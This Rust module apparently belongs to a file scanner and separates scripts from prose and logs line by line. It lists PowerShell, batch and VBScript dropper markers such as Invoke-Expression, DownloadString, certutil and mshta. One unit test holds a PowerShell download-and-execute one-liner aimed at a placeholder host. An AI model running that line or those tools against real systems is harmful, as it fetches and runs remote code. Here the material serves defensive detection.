//! Telling code from prose and logs, line by line. A script is live: a
//! two-line dropper must never be filed as `text`, and a log that quotes the
//! command a scanner blocked must not pass for a script. So the evidence is
//! counted per line: an opening only code has, or a statement typical of a
//! language (a `Verb-Noun` cmdlet, a Windows Script Host object, a
//! declaration). Words that merely *start* code (`from `, `let `, `using `,
//! `$`, `'`) are not enough on their own: prose starts that way too.

/// What the text's lines say about it being code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Evidence {
    /// The first line is something only code opens with (`#!`, `@echo off`,
    /// `<?php`, ...).
    pub opening: bool,
    /// Lines that are statements of some scripting language.
    pub statements: usize,
    /// Lines that are neither blank nor comments.
    pub lines: usize,
}

impl Evidence {
    /// Whether the text is a script: one unmistakable opening or one
    /// statement is enough.
    pub fn is_script(&self) -> bool {
        self.opening || self.statements > 0
    }

    /// Whether the text is code through and through, so that log phrases it
    /// carries are quotes (a script that echoes "Scan finished"), not a log.
    pub fn outweighs_log(&self) -> bool {
        self.opening || (self.statements > 0 && self.statements * 2 >= self.lines)
    }
}

/// Weighs the decoded head of a file.
pub(super) fn evidence(text: &str) -> Evidence {
    let mut lines = text
        .trim_start_matches('\u{feff}')
        .lines()
        .map(|l| l.trim().to_lowercase())
        .filter(|l| !l.is_empty());
    let first = lines.next().unwrap_or_default();
    let opening = STRONG_OPENINGS.iter().any(|p| first.starts_with(p));
    let mut e = Evidence {
        opening,
        statements: 0,
        lines: 0,
    };
    for line in std::iter::once(first).chain(lines) {
        if is_comment(&line) {
            continue;
        }
        e.lines += 1;
        e.statements += usize::from(is_statement(&line));
    }
    e
}

/// Openings that only code has.
const STRONG_OPENINGS: &[&str] = &[
    "#!",
    "@echo",
    "@rem",
    "<?php",
    "<script",
    "<job",
    "<package",
    "<html",
    "<!doctype",
    "<hta:",
    "<?xml",
    "<svg",
    "#requires",
    "#include",
    "option explicit",
    "on error resume next",
    "'use strict'",
    "\"use strict\"",
    "use strict;",
];

/// A comment line of a scripting language: neutral, neither code nor prose.
fn is_comment(line: &str) -> bool {
    (line.starts_with('#') && !STRONG_OPENINGS.iter().any(|p| line.starts_with(p)))
        || line.starts_with("//")
        || line.starts_with("/*")
        || line.starts_with("<#")
        || line.starts_with("rem ")
        || line == "rem"
        || line.starts_with("::")
}

/// Fragments that appear only in code, wherever they stand in a line.
const CODE_FRAGMENTS: &[&str] = &[
    "createobject(",
    "getobject(",
    "new activexobject(",
    "wscript.echo",
    "wscript.shell",
    "wscript.createobject",
    "wscript.sleep",
    "wscript.quit",
    "wscript.arguments",
    "wscript.scriptfullname",
    "shell.application",
    "invoke-expression",
    "new-object ",
    "downloadstring(",
    "downloadfile(",
    "frombase64string(",
    "document.write(",
    "console.log(",
    "$env:",
    "-executionpolicy ",
    "-encodedcommand ",
    "subprocess.",
    "os.system(",
    "%~dp0",
    "end sub",
    "end function",
];

/// Openings of a line that make it a statement in batch, VBScript or the
/// Windows tools droppers call.
const STATEMENT_OPENINGS: &[&str] = &[
    "echo ",
    "echo.",
    "goto ",
    "if exist ",
    "if not exist ",
    "call :",
    "setlocal",
    "exit /b",
    "start \"\" ",
    "cmd /c ",
    "cmd.exe /c ",
    "reg add ",
    "schtasks /",
    "rundll32 ",
    "regsvr32 ",
    "mshta ",
    "certutil -",
    "bitsadmin /",
    "iex ",
    "iex(",
    "msgbox ",
    "msgbox(",
    "chmod ",
    "print(",
    "eval(",
    "if __name__",
];

/// PowerShell's approved verbs, which open most one-line droppers.
const PS_VERBS: &[&str] = &[
    "add",
    "clear",
    "compress",
    "convertfrom",
    "convertto",
    "copy",
    "disable",
    "enable",
    "expand",
    "export",
    "foreach",
    "format",
    "get",
    "import",
    "invoke",
    "measure",
    "move",
    "new",
    "out",
    "read",
    "register",
    "remove",
    "rename",
    "resolve",
    "select",
    "send",
    "set",
    "sort",
    "start",
    "stop",
    "test",
    "wait",
    "where",
    "write",
];

/// Whether one lowercased, trimmed line is a statement of some scripting
/// language.
fn is_statement(line: &str) -> bool {
    CODE_FRAGMENTS.iter().any(|f| line.contains(f))
        || STATEMENT_OPENINGS.iter().any(|p| line.starts_with(p))
        || line.split('|').any(|part| opens_with_cmdlet(part.trim()))
        || ps_assignment(line)
        || declaration(line)
        || python_import(line)
        || batch_set(line)
}

/// `Verb-Noun` opening the line, as in `Write-Output` or `Get-Item`, also
/// after an assignment (`$x = Get-Item ...`).
fn opens_with_cmdlet(line: &str) -> bool {
    let line = match line.split_once('=') {
        Some((lhs, rhs)) if is_ps_variable(lhs.trim()) => rhs.trim(),
        _ => line,
    };
    let word = line.split_whitespace().next().unwrap_or("");
    let word = word.trim_end_matches([';', ')']);
    let Some((verb, noun)) = word.split_once('-') else {
        return false;
    };
    PS_VERBS.contains(&verb) && !noun.is_empty() && noun.chars().all(|c| c.is_ascii_alphanumeric())
}

/// `$name = ...`, `$name.Method(...)`: a PowerShell variable at work. `$5 was
/// charged` is prose: a variable starts with a letter.
fn ps_assignment(line: &str) -> bool {
    let Some(rest) = line.strip_prefix('$') else {
        return false;
    };
    let n = identifier_len(rest);
    if n == 0 {
        return false;
    }
    let after = rest[n..].trim_start();
    (after.starts_with('=') && !after.starts_with("=="))
        || after.starts_with("+=")
        || (after.starts_with('.') && after.contains('('))
}

fn is_ps_variable(s: &str) -> bool {
    s.strip_prefix('$')
        .is_some_and(|r| identifier_len(r) == r.len() && !r.is_empty())
}

/// `var x = `, `let x = `, `const x = `, `dim x`, `set x = `, `function f(`,
/// `sub f(`, `def f(...):`, `using System;`, `package a.b;`.
fn declaration(line: &str) -> bool {
    let Some((keyword, rest)) = line.split_once(' ') else {
        return false;
    };
    let rest = rest.trim_start();
    let n = identifier_len(rest);
    if n == 0 {
        return false;
    }
    let after = rest[n..].trim_start();
    match keyword {
        "var" | "let" | "const" => after.starts_with('=') || after.starts_with(';'),
        "set" => after.starts_with('=') && !after.starts_with("=="),
        "dim" => after.is_empty() || after.starts_with(',') || after.starts_with('('),
        "function" | "sub" => after.starts_with('('),
        "def" => after.starts_with('(') && line.trim_end().ends_with(':'),
        "using" | "package" => dotted(rest.trim_end_matches(';')) && line.ends_with(';'),
        _ => false,
    }
}

/// `import os`, `import a.b, c`, `from a.b import c`.
fn python_import(line: &str) -> bool {
    if let Some(rest) = line.strip_prefix("import ") {
        return rest.split(',').all(|m| dotted(m.trim()));
    }
    if let Some(rest) = line.strip_prefix("from ") {
        return rest
            .split_once(" import ")
            .is_some_and(|(module, names)| dotted(module.trim()) && !names.trim().is_empty());
    }
    false
}

/// Batch `set NAME=value` (no space before `=`).
fn batch_set(line: &str) -> bool {
    let Some(rest) = line.strip_prefix("set ") else {
        return false;
    };
    let rest = rest.trim_start_matches("/a ").trim_start_matches("/p ");
    let n = identifier_len(rest);
    n > 0 && rest[n..].starts_with('=')
}

/// `a.b.c`: identifiers joined by dots.
fn dotted(s: &str) -> bool {
    !s.is_empty()
        && s.split('.')
            .all(|p| !p.is_empty() && identifier_len(p) == p.len())
}

/// Length of the identifier (`[a-z_][a-z0-9_]*`) that `s` opens with.
fn identifier_len(s: &str) -> usize {
    let mut n = 0;
    for (i, c) in s.char_indices() {
        let ok = c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit());
        if !ok {
            break;
        }
        n = i + c.len_utf8();
    }
    n
}

#[cfg(test)]
mod tests {
    use super::*;

    fn script(text: &str) -> bool {
        evidence(text).is_script()
    }

    #[test]
    fn two_line_powershell_and_jscript_are_scripts() {
        assert!(script(
            "# says hello\nWrite-Output \"hello from a harmless demo\"\n"
        ));
        assert!(script(
            "// says hello\nWScript.Echo(\"hello from a harmless demo\");\n"
        ));
        assert!(script("' says hello\nMsgBox \"hello\"\n"));
        assert!(script("$x = Get-Date\n"));
        assert!(script(
            "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\n"
        ));
        assert!(script("var s = new ActiveXObject(\"WScript.Shell\");\n"));
        assert!(script("import os, sys\n"));
        assert!(script("from os import path\n"));
        assert!(script("using System;\n"));
        assert!(script("set PAYLOAD=%TEMP%\\a.exe\n"));
        assert!(script("Get-ChildItem | Where-Object Length\n"));
    }

    #[test]
    fn prose_that_starts_like_code_stays_prose() {
        for prose in [
            "from my desk I noticed the PC was slow after lunch.\n",
            "let me know if you need more files.\n",
            "using the portal failed, so here it is by mail.\n",
            "$5 was charged twice on my card.\n",
            "'Urgent' was the word my manager used.\n",
            "import of the files failed yesterday.\n",
            "set up the machine again, no luck.\n",
            "function keys stopped working.\n",
            "# Notes\nThe scan found nothing but the PC is slow.\n",
        ] {
            assert!(!script(prose), "{prose:?}");
        }
    }

    #[test]
    fn statements_are_counted_against_lines() {
        let e = evidence("# c\nWrite-Host hi\nplain words here\n");
        assert_eq!((e.opening, e.statements, e.lines), (false, 1, 2));
        assert!(e.outweighs_log());
        let quoted =
            evidence("powershell.exe -Command \"Start-MpScan\" blocked\n2021 a\n2021 b\n2021 c\n");
        assert!(!quoted.outweighs_log());
        assert!(evidence("#!/bin/sh\nScan finished\nScan started\n").outweighs_log());
    }
}
